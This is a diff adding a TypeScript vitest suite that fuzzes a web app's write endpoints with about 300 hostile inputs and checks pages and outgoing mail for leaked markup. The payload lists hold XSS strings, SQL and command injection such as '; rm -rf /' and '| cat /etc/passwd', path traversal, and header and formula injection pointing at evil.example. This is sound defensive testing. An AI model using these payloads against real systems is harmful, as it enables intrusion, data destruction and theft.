@@ -1,0 +1,122 @@
+import { eq } from 'drizzle-orm'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type * as z from 'zod/mini'
+import { isSafe, pathParameters } from '#shared/http/endpoint.ts'
+import { mounted } from '#server/app.ts'
+import { demoPassword } from '#server/features/accounts/demo.ts'
+import { users } from '#server/features/accounts/tables.ts'
+import { throttles } from '#server/features/auth/tables.ts'
+import type { Mounted } from '#server/http/mount.ts'
+import { outbox } from '#server/outbox/tables.ts'
+import { openTestApp } from './testing.ts'
+
+let house: Awaited<ReturnType<typeof openTestApp>>
+let passwords: { id: number; passwordHash: string | null }[]
+beforeAll(async () => {
+  house = await openTestApp()
+  passwords = await house.db.select({ id: users.id, passwordHash: users.passwordHash }).from(users)
+})
+afterAll(() => house.close())
+
+const markup = [
+  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<a href="javascript:alert(1)">x</a>',
+  '</script><script>alert(1)</script>', '<!--<script>', '--><img src=x onerror=alert(1)>', '</title><svg onload=alert(1)>', '<style>@import "//evil.example"</style>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<body onload=alert(1)>', '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<form action=//evil.example><input name=password>', '<object data="data:text/html,x">', '<link rel=stylesheet href=//evil.example>', '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>', '<template><script>alert(1)</script></template>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;',
+  '<ſcript>alert(1)</ſcript>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '＜script＞alert(1)＜/script＞', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', '<x/onclick=alert(1)>x',
+]
+const injection = [
+  "' OR '1'='1", "'; DROP TABLE users; --", "1); DELETE FROM sessions; --", "' UNION SELECT password_hash FROM users --", "\\'; --", '$1', '${7*7}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>',
+  '%s%s%s%n', '%00', '../../../../etc/passwd', '..\\..\\windows\\win.ini', '/dev/null', '| cat /etc/passwd', '`id`', '$(id)', '; rm -rf /', '*)(uid=*))(|(uid=*', "admin'--",
+  '{"$gt":""}', '__proto__', 'constructor', 'toString', 'hasOwnProperty', '[object Object]', 'null', 'undefined', 'NaN', 'true', '-1', '1e309', '0x41',
+  '=HYPERLINK("http://evil.example","x")', '@SUM(1+1)*cmd|x', 'a\r\nBcc: victim@evil.example', 'a\nSubject: x\n\nbody', 'a%0d%0aSet-Cookie: x=1', '\u202Eevil\u202C', '\uFEFF\u200B\u2060',
+  '\uD800', '\uDFFF lone', '👩‍👩‍👧‍👦'.repeat(3), 'ﷺ'.repeat(20), 'a\u0300'.repeat(60), 'İıſK', '\t\v\f', '\u0007\u001b[31m',
+]
+/** Plain, and in the places where a careless page would put it. */
+const wrappings: readonly ((payload: string) => string)[] = [payload => payload, payload => `">${payload}`, payload => `Amara ${payload}`, payload => `'/*${payload}*/`]
+const payloads = [...markup, ...injection].flatMap(payload => wrappings.map(wrap => wrap(payload)))
+
+interface Def {
+  type: string
+  innerType?: { _zod: { def: Def } }
+  element?: { _zod: { def: Def } }
+  shape?: Record<string, z.ZodMiniType>
+  entries?: Record<string, unknown>
+  in?: { _zod: { def: Def } }
+}
+const defOf = (schema: { _zod: { def: unknown } }): Def => {
+  const def = schema._zod.def as Def
+  return def.innerType ? defOf(def.innerType) : def
+}
+const fieldsOf = ({ schemas }: Mounted) => Object.entries(defOf(schemas.input).shape ?? {}).map(([name, schema]) => ({ name, def: defOf(schema) }))
+const isText = ({ type, element }: Def): boolean => type === 'string' || (type === 'array' && element !== undefined && isText(defOf(element)))
+
+/** Something each field takes, so that the hostile one is the only reason to refuse. */
+const good: Readonly<Record<string, unknown>> = {
+  email: 'someone@northbridge.example', newEmail: 'other@northbridge.example', password: 'three calm otters 19', current: demoPassword, courseEnds: '2027-06-30',
+  phone: '', name: 'Amara Osei', reason: 'A reason that is long enough.', universityName: 'University of Somewhere', slug: 'northbridge-ambassador', universityId: 1, id: 1, code: '123456',
+}
+const sample = (name: string, def: Def): unknown => {
+  if (Object.hasOwn(good, name)) return good[name]
+  if (def.type === 'enum') return Object.keys(def.entries!)[0]
+  if (def.type === 'number') return 1
+  if (def.type === 'boolean') return true
+  return def.type === 'array' ? [] : 'x'
+}
+
+const writes = mounted.filter(row => !isSafe(row.endpoint.method) && fieldsOf(row).some(({ def }) => isText(def)))
+const personFor = ({ endpoint: { access } }: Mounted) => {
+  if (access === 'anyone') return undefined
+  if (access === 'loggedIn' || access === 'student') return 'student@northbridge.example'
+  const role = typeof access === 'string' ? access : access[0]!
+  return { university_admin: 'admin@northbridge.example', staff: 'staff@sojourn.example', employer: 'hiring@brightworks.example', predeparture_student: 'predeparture@northbridge.example', student: 'student@northbridge.example' }[role]
+}
+
+describe('hostile text', () => {
+  it('comes in 300 kinds and goes into every text field of every call that writes', () => {
+    expect(payloads.length).toBeGreaterThanOrEqual(300)
+    expect(writes.length).toBeGreaterThan(10)
+  })
+  it.each(writes.map(row => [`${row.endpoint.method} ${row.endpoint.path}`, row] as const))('is taken or refused in words by %s, and never breaks it', async (_, row) => {
+    const { method, path } = row.endpoint
+    // A row before may have changed them: some of this text makes a fine password.
+    for (const { id, passwordHash } of passwords) await house.db.update(users).set({ passwordHash }).where(eq(users.id, id))
+    const fields = fieldsOf(row)
+    const person = personFor(row)
+    for (const { name, def } of fields) {
+      if (!isText(def) || pathParameters(path).includes(name)) continue
+      const cookie = person && await house.signIn(person)
+      for (const [i, payload] of payloads.entries()) {
+        // Nothing is to be refused only for being too many.
+        if (i % 5 === 0) await house.db.delete(throttles)
+        const body: Record<string, unknown> = Object.fromEntries(fields.map(field => [field.name, sample(field.name, field.def)]))
+        body[name] = def.type === 'array' ? [payload] : payload
+        const address = path.replace(/:(\w+)/g, (_whole, parameter: string) => encodeURIComponent(String(body[parameter])))
+        for (const parameter of pathParameters(path)) delete body[parameter]
+        const answer = await house.ask(address, { method, body, ...(cookie && { cookie }) })
+        expect(answer.status, `${name}: ${JSON.stringify(payload)}`).toBeLessThan(500)
+        expect(answer.headers.getSetCookie().join()).not.toContain('x=1')
+      }
+    }
+  }, 120_000)
+  it('stands on no page and in no mail as markup', async () => {
+    const raw = /<script>alert|<img src=x|<svg\/onload|<svg onload|<iframe|javascript:alert\(1\)"|<math>|<base href="\/\/evil|<object data|<details open ontoggle|<x\/onclick/i
+    const pages: (readonly [string, string])[] = [
+      ['/edit-profile', 'student@northbridge.example'], ['/student-login', 'student@northbridge.example'], ['/university-user-profile/team', 'admin@northbridge.example'],
+      ['/university-user-profile/requests', 'admin@northbridge.example'], ['/student-dashboard', 'student@northbridge.example'],
+    ]
+    for (const [address, person] of pages) {
+      const answer = await house.ask(address, { cookie: await house.signIn(person), headers: { accept: 'text/html' } })
+      expect(answer.status, address).toBe(200)
+      expect(await answer.text(), address).not.toMatch(raw)
+    }
+    const mails = await house.db.select().from(outbox)
+    expect(mails.length).toBeGreaterThan(100)
+    for (const { bodyHtml, recipient, subject } of mails) {
+      expect(bodyHtml).not.toMatch(raw)
+      expect(recipient + subject).not.toMatch(/[\r\n]/)
+    }
+    expect(await (await house.ask('/dev/mailbox')).text()).not.toMatch(raw)
+  })
+})
